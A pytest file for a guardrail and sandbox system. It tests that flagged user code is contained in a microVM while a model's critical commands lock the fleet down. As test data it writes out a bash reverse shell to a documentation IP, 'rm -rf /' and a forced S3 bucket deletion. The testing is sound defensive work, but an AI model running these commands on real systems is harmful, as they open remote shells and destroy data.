"""What a verdict leads to: code a person runs in the sandbox is contained by the sandbox (stronger backend, review)
and never locks the fleet; what models do locks it down at critical risk. Real Temporal, PostgreSQL, sandbox."""

from __future__ import annotations

import pytest

from domain.guardrails import Consequence, consequence, scan_command, scan_text
from domain.sandbox import Origin, SandboxSpec, choose_isolation
from hybrid_llm import lockdown_client
from tests.test_sandbox import root, run  # noqa: F401 - root is a fixture

# The program from issue 12: imports socket, os and subprocess, opens one TCP connection, writes one file.
PROGRAM = """import os, socket, subprocess
try:
    s = socket.create_connection(("192.0.2.1", 80), timeout=2)
    s.close()
except OSError as e:
    print("no network:", e)
open("note.txt", "w").write(os.getcwd())
print(subprocess.run(["echo", "child ran"], capture_output=True, text=True).stdout)
"""
# A user's own reverse-shell experiment: critical for the rules, contained by the sandbox (no network there).
REVERSE = ("bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")
MODEL = Origin(actor="model", model_id="coder", local=True, name="model:coder")


def test_consequence_by_origin():
    critical, high = scan_command("rm -rf /"), scan_command("aws s3 rb s3://x --force")
    assert critical.risk.value == "critical" and high.verdict == "block"
    assert consequence(critical, "user") == Consequence.ISOLATE
    assert consequence(high, "user") == Consequence.ISOLATE
    assert consequence(critical, "model") == Consequence.LOCKDOWN
    assert consequence(high, "model") == Consequence.BLOCK
    assert consequence(scan_command("ls -la"), "model") == Consequence.RUN
    assert consequence(scan_command("ls -la"), "user") == Consequence.RUN


def test_flagged_user_code_wants_the_stronger_backend():
    spec = SandboxSpec(command=REVERSE)
    assert choose_isolation(spec, "critical", microvm_available=True).backend.value == "microvm"
    with pytest.raises(ValueError, match="microVM"):
        choose_isolation(spec, "critical", microvm_available=False)


async def test_a_users_socket_program_runs_and_does_not_lock(client, settings, run_worker, scripted_pool, root):
    spec = SandboxSpec(code=PROGRAM, language="python")
    assert "reverse_shell" not in scan_text(PROGRAM, "model_output").rules
    async with run_worker(scripted_pool()):
        out = await run(client, settings, spec)
        state = await lockdown_client.current(client, settings)
    assert not state.locked, state
    assert out.status == "approved" and "child ran" in out.stdout, out


async def test_a_users_critical_code_is_isolated_never_locks(client, settings, run_worker, scripted_pool, root,
                                                             lockdown_secret):
    assert scan_command(" ".join(REVERSE)).risk.value == "critical"
    async with run_worker(scripted_pool()):
        out = await run(client, settings, SandboxSpec(command=REVERSE))
        state = await lockdown_client.current(client, settings)
        if state.locked:
            await lockdown_client.release(client, settings, lockdown_secret, actor="pytest")
    assert not state.locked, out.reason
    assert "lockdown" not in (out.reason or "")
    if out.status == "failed":  # this worker has no microVM: it refuses to run it weaker, and says why
        assert "microVM" in out.reason
    else:
        assert out.backend.value == "microvm" and out.destroyed, out


async def test_a_models_critical_code_still_locks_down(client, settings, run_worker, scripted_pool, root,
                                                       lockdown_secret):
    async with run_worker(scripted_pool()):
        out = await run(client, settings, SandboxSpec(command=("rm", "-rf", "/"), origin=MODEL))
        state = await lockdown_client.current(client, settings)
        await lockdown_client.release(client, settings, lockdown_secret, actor="pytest")
    assert out.status == "blocked" and "lockdown engaged" in out.reason
    assert state.locked
